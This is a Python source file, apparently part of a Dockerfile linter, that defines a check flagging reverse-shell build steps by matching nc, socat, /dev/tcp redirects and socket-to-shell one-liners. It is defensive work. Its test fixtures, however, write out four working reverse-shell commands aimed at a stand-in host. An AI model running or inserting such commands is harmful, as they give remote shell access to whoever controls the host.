"""A shell whose input comes from the network is somebody else's shell."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pratique.checks.check import DockerfileCheck, Hit, at
from pratique.checks.recipe import RUNNING, reached, steps
from pratique.dockerfile.build import Build
from pratique.dockerfile.command import Command
from pratique.model import Confidence, Severity

_SOCKET = re.compile(r"/dev/(?:tcp|udp)/")
_SCRIPT = re.compile(r"\bsocket\b.{0,2000}(?:\bdup2\b|\bpty\.spawn\b|subprocess|/bin/(?:ba)?sh)", re.DOTALL | re.IGNORECASE)


def run(build: Build) -> Iterator[Hit]:
    """Object to nc -e, shells on /dev/tcp, socat EXEC, and one-line programs that join a socket to a shell."""
    for stage, _, command in steps(build, *RUNNING):
        if _judged(command):
            yield at(command, f"{command.program} gives a shell to the network", reached(stage, Severity.CRITICAL))


def _judged(command: Command) -> bool:
    match command.program:
        case "nc" | "ncat" | "netcat":
            return command.has("-e", "-c", "--exec", "--sh-exec")
        case "socat":
            return any(text.upper().startswith(("EXEC:", "SYSTEM:")) for text in command.texts) and any(
                "TCP" in text.upper() for text in command.texts
            )
        case "sh" | "bash" | "zsh" | "ksh" | "exec" | "":
            return any(_SOCKET.match(redirect.target.text) for redirect in command.redirects) and (command.has("-i") or command.program == "exec")
        case program if program.startswith(("python", "perl", "ruby", "php")):
            return any(_SCRIPT.search(text[:4096]) for text in command.texts)
    return False


CHECK = DockerfileCheck(
    id="reverse-shell-step",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    asks="Is a shell given to the network?",
    remedy="If this line is not yours, the file was tampered with: treat the machine that built it as lost.",
    run=run,
    catches=(
        "RUN nc -e /bin/sh 203.0.113.7 4444",
        "CMD bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "RUN socat TCP:203.0.113.7:1 EXEC:/bin/sh",
        'CMD ["python3", "-c", "import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\'/bin/sh\')"]',
    ),
    passes=(
        "RUN nc -z db 5432",
        "HEALTHCHECK CMD bash -c '</dev/tcp/127.0.0.1/80'",
        "RUN echo nc -e /bin/sh",
        "RUN python3 -c 'import socket; print(socket.gethostname())'",
    ),
)
